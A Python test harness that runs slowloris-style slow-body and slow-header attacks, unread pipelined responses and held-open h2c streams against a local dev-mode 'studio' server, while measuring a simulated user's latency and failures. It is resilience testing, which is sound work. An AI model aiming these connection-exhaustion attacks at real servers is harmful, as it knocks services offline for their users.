#!/usr/bin/env python3
"""Attacks a studio with clients that hold connections, and measures what another user notices.

    attacks.py http://127.0.0.1:8080 [--attack NAME] [--seconds 20] [--connections 230]

The studio must run in dev mode. For each attack the script prints the other user's p50 and p99 in
milliseconds, the failed requests and the resident memory of the server (with --pid). The victim and the
attackers have the same address, as behind one NAT.
"""

import argparse
import http.client
import json
import random
import socket
import struct
import threading
import time
import urllib.parse
import urllib.request

PART = (
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n'
    b"Content-Type: image/jpeg\r\n\r\n%s\r\n--b--\r\n"
)


class Studio:
    """The address of a studio, with tokens and a picture."""

    def __init__(self, url, picture):
        parts = urllib.parse.urlsplit(url)
        self.host, self.port = parts.hostname, parts.port
        self.victim = self.token("victim", ["publisher"])
        self.attacker = self.token("attacker", ["publisher"])
        self.photo = self.upload(picture)

    def call(self, method, path, body=None, headers=None):
        connection = http.client.HTTPConnection(self.host, self.port, timeout=30)
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        data = answer.read()
        connection.close()
        return answer.status, data

    def token(self, user, groups):
        body = json.dumps({"user": user, "groups": groups, "ttlSeconds": 86400})
        status, data = self.call(
            "POST", "/api/v1/dev/tokens", body, {"Content-Type": "application/json"}
        )
        assert status in (200, 201), (status, data)
        return json.loads(data)["data"]["token"]

    def upload(self, picture):
        status, data = self.call(
            "POST",
            "/api/v1/photos",
            PART % picture,
            {
                "Authorization": "Bearer " + self.victim,
                "Content-Type": "multipart/form-data; boundary=b",
            },
        )
        assert status == 201, (status, data)
        return urllib.parse.urlsplit(json.loads(data)["data"]["photoUrl"]).path

    def connect(self, timeout=10, receive=None):
        opened = socket.socket()
        if receive:
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        opened.settimeout(timeout)
        opened.connect((self.host, self.port))
        return opened


class Victim(threading.Thread):
    """A user on one kept connection: styles, a small event, a picture, ten times per second."""

    def __init__(self, studio, pause=0.03):
        super().__init__(daemon=True)
        self.studio, self.pause = studio, pause
        self.times, self.failures, self.over = [], [], False

    def run(self):
        bearer = {"Authorization": "Bearer " + self.studio.victim}
        event = json.dumps({"event": "a.b", "data": {"n": 1}})
        calls = [
            ("GET", "/api/v1/styles", None, bearer),
            ("POST", "/api/v1/events", event, {**bearer, "Content-Type": "application/json"}),
            ("GET", self.studio.photo, None, {}),
        ]
        connection = None
        while not self.over:
            for method, path, body, headers in calls:
                begin = time.perf_counter()
                try:
                    if connection is None:
                        connection = http.client.HTTPConnection(
                            self.studio.host, self.studio.port, timeout=20
                        )
                    connection.request(method, path, body, headers)
                    answer = connection.getresponse()
                    answer.read()
                    if answer.status >= 400:
                        self.failures.append(answer.status)
                except (OSError, http.client.HTTPException) as e:
                    self.failures.append(type(e).__name__)
                    connection = None
                self.times.append((time.perf_counter() - begin) * 1000)
                time.sleep(self.pause)


def measure(studio, seconds):
    victim = Victim(studio)
    victim.start()
    time.sleep(seconds)
    victim.over = True
    victim.join(25)
    times = sorted(victim.times)
    at = lambda q: times[min(len(times) - 1, int(q * len(times)))] if times else float("nan")
    return at(0.5), at(0.99), len(times), victim.failures


class Attack(threading.Thread):
    """Keeps connections open, each by its own generator of bytes, and opens closed ones again."""

    def __init__(self, studio, count, opening, drip, receive=None, every=1.0):
        super().__init__(daemon=True)
        self.studio, self.count, self.opening, self.drip = studio, count, opening, drip
        self.receive, self.every = receive, every
        self.over, self.opened, self.held = False, 0, 0

    def run(self):
        held = []
        while not self.over:
            alive = []
            for opened in held:
                try:
                    if self.drip:
                        opened.send(self.drip)
                    if self.receive is None:
                        opened.setblocking(False)
                        try:
                            if opened.recv(4096) == b"":
                                raise OSError
                        except BlockingIOError:
                            pass
                    alive.append(opened)
                except BlockingIOError:
                    alive.append(opened)
                except OSError:
                    opened.close()
            held = alive
            tries = 0
            while len(held) < self.count and not self.over and tries < self.count:
                tries += 1
                try:
                    opened = self.studio.connect(5, self.receive)
                    self.opened += 1
                    opened.settimeout(0.05)
                    try:
                        opened.sendall(self.opening())
                    except OSError:
                        pass
                    opened.setblocking(False)
                    held.append(opened)
                except OSError:
                    pass
            self.held = len(held)
            time.sleep(self.every)
        for opened in held:
            opened.close()


def head(path, extra="", length=100000, method="POST"):
    return (
        f"{method} {path} HTTP/1.1\r\nHost: studio\r\n{extra}"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


# --- HTTP/2 in clear text, by prior knowledge or by upgrade


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    name, value = name.encode(), value.encode()

    def text(b):
        if len(b) < 127:
            return bytes([len(b)]) + b
        rest, out = len(b) - 127, [127]
        while rest >= 128:
            out.append(rest % 128 + 128)
            rest //= 128
        return bytes(out + [rest]) + b

    return b"\x00" + text(name) + text(value)


def headers_frame(stream, path, token=None, method="POST", end=False):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":path", path)
    block += literal(":authority", "studio") + literal("content-type", "application/json")
    if method == "POST":
        block += literal("content-length", "100000")
    if token:
        block += literal("authorization", "Bearer " + token)
    return frame(1, 4 | (1 if end else 0), stream, block)


def h2(paths, token, count, upgrade):
    out = b""
    if upgrade:
        out += (
            b"GET /api/v1/health HTTP/1.1\r\nHost: studio\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
        )
    out += b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
    for i in range(count):
        out += headers_frame(2 * i + 3, paths[i % len(paths)], token)
        out += frame(0, 0, 2 * i + 3, b"{")
    return out


def attacks(studio, count):
    bearer = f"Authorization: Bearer {studio.attacker}\r\n"
    signature = "X-Hub-Signature-256: sha256=" + "0" * 64 + "\r\nX-GitHub-Delivery: a\r\nX-GitHub-Event: push\r\n"
    multipart = head("/api/v1/photos", bearer).replace(
        b"application/json", b"multipart/form-data; boundary=b"
    )
    pipelined = lambda path, n: f"GET {path} HTTP/1.1\r\nHost: studio\r\n{bearer}\r\n".encode() * n
    posts = ["/api/v1/events", "/api/v1/transformations", "/api/v1/chat/messages"]
    slow = lambda bytes_: (lambda: Attack(studio, count, lambda: bytes_, b"a"))
    return {
        "slow bodies, unknown path": slow(head("/api/v1/nothing")),
        "slow bodies, no token": slow(head("/api/v1/events")),
        "slow bodies, static file": slow(head("/dashboard/style.css")),
        "slow bodies of GET": slow(head("/api/v1/styles", method="GET")),
        "slow bodies, valid token": slow(head("/api/v1/events", bearer)),
        "slow chunked bodies": slow(
            head("/api/v1/events", bearer).replace(b"Content-Length: 100000", b"Transfer-Encoding: chunked")
            + b"ffff\r\n"
        ),
        "slow photos": slow(multipart),
        "slow webhook, false signature": slow(head("/api/v1/github/webhook", signature)),
        "slow headers": slow(b"GET /api/v1/styles HTTP/1.1\r\nHost: studio\r\nX-A: "),
        "unread styles": lambda: Attack(
            studio, count, lambda: pipelined("/api/v1/styles", 400), pipelined("/api/v1/styles", 20), 4096
        ),
        "unread pictures": lambda: Attack(
            studio, count, lambda: pipelined(studio.photo, 100), pipelined(studio.photo, 5), 4096
        ),
        "unread documents": lambda: Attack(
            studio, count, lambda: pipelined("/api/v1/docs.json", 100), pipelined("/api/v1/docs.json", 5), 4096
        ),
        "unread static files": lambda: Attack(
            studio,
            count,
            lambda: pipelined("/dashboard/dashboard.js", 200),
            pipelined("/dashboard/dashboard.js", 5),
            4096,
        ),
        "unread refusals": lambda: Attack(
            studio, count, lambda: pipelined("/api/v1/nothing", 1500), pipelined("/api/v1/nothing", 50), 4096
        ),
        "h2c, prior knowledge": lambda: Attack(
            studio, 3, lambda: h2(posts, studio.attacker, 90, False), b""
        ),
        "h2c, upgrade": lambda: Attack(studio, 3, lambda: h2(posts, studio.attacker, 90, True), b""),
        "h2c, no token": lambda: Attack(studio, 3, lambda: h2(["/api/v1/nothing"], None, 90, False), b""),
    }


def memory(pid):
    if not pid:
        return 0
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS"):
            return int(line.split()[1]) // 1024
    return 0


def main():
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("url")
    options.add_argument("--picture", required=True, help="a JPEG file")
    options.add_argument("--attack", action="append", help="part of a name; default all")
    options.add_argument("--seconds", type=float, default=15)
    options.add_argument("--connections", type=int, default=230)
    options.add_argument("--pid", type=int)
    chosen = options.parse_args()
    studio = Studio(chosen.url, open(chosen.picture, "rb").read())
    measure(studio, 5)  # warms up
    print("| attack | p50 ms | p99 ms | max quiet × | requests | failed | open | RSS MB |")
    print("| --- | --- | --- | --- | --- | --- | --- | --- |")
    quiet = measure(studio, chosen.seconds)
    show("none", quiet, quiet, 0, chosen.pid)
    for name, make in attacks(studio, chosen.connections).items():
        if chosen.attack and not any(part in name for part in chosen.attack):
            continue
        attack = make()
        attack.start()
        time.sleep(2)
        show(name, measure(studio, chosen.seconds), quiet, attack, chosen.pid)
        attack.over = True
        attack.join(20)
        time.sleep(2)


def show(name, found, quiet, attack, pid):
    p50, p99, count, failures = found
    kinds = {kind: failures.count(kind) for kind in set(failures)}
    held = f"{attack.held} of {attack.opened}" if attack else ""
    print(
        f"| {name} | {p50:.1f} | {p99:.1f} | {p99 / quiet[1]:.1f} | {count} | {kinds or 0} | {held} | {memory(pid)} |",
        flush=True,
    )


if __name__ == "__main__":
    main()
